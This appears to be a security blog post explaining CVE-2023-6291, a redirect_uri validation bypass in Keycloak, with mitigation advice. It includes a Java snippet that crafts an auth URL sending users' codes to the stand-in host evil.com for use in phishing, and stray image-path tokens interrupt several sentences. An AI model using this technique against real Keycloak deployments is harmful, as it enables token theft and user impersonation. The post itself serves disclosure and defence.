A critical vulnerability, identified as CVE-2023-6291, has been found in the open-source identity and access management solution Keycloak, which may have serious security implicationsfor its users across various platforms and applications. This post aims to outline the details of this flaw, how it can be exploited by attackers, and the potential risks associated with it. Furthermore, we will also provide links to the original sources and references to facilitate a better understanding of the issue.

The Vulnerability: CVE-2023-6291

The flaw in question was discovered in the redirect_uri (uniform resource identifier) validation logic implemented within the Keycloak system. Essentially, the redirect_uri is a crucial component that defines where the user is redirected after theyhave been authenticated by the server. This specific vulnerability, however, allows a malicious user to bypass the explicitly allowed hosts and use a different URI instead.

Exploiting the Vulnerability

A successful attack exploiting CVE-2023-6291could lead to an attacker acquiring the user's access token, enabling them to then impersonate other users and potentially gain unauthorized access to sensitive resources within the system. The process can be summarized as follows:

1. The attacker constructs a malicious redirect_uri that bypasses the allowed list of URIs within the system.
2. The victim is then tricked into clicking on this malicious link, often through social engineering tactics.

The following example demonstrates how the vulnerability can be exploited in practice

// Create a malicious redirect_uri
String redirect_uri = "https://evil.com/?#"; + allowed_redirect_uri;

// Craft a URL with the malicious redirect_uri
String url = keycloak_base_url + "/auth/realms/" + realm_name + "/protocol/openid-connect/auth" +
 "?response_type=code" +
 "&client_id=" + client_id +
 "&scope=openid" +
 "&redirect_uri=" + URLEncoder.encode(redirect_uri, "UTF-8");

// Trick the victim into clicking the URL

In this example, the attacker combines an allowed redirect_uri with their malicious domain, which can then be included in a phishing email or message sent to the unsuspecting victim.

The original discovery and reporting of the CVE-2023-6291 vulnerability can be found at

- Official Keycloak Github Issue
- Official Keycloak Advisory

Additional relevant references and further information can be located at

- CVE Details
- National Vulnerability Database (NVD)

Mitigation and Protection

In order to effectively mitigate the risks associated with the CVE-2023-6291 vulnerability, it is recommended that users of the affected Keycloak system:

Ensure that a strict list of allowed redirect_uri values is maintained and regularly updated.- Encourage users to be wary of suspicious linksand adequately train staff members on recognizing potential social engineering attempts.


The discovery of CVE-2023-6291 highlights the importance of constant vigilance in maintaining, updating, and securing systems such as Keycloak. By being proactive in addressing vulnerabilities,organizations can minimize the risk of compromising sensitive data and protect their users from potential threats. Remember to always stay informed about recent developments and be prepared to act accordingly to ensure the safety and security of your digital assets.


Publishedon: 01/26/2024 15:15:08 UTCLast modified on: 02/04/2024 20:15:46 UTC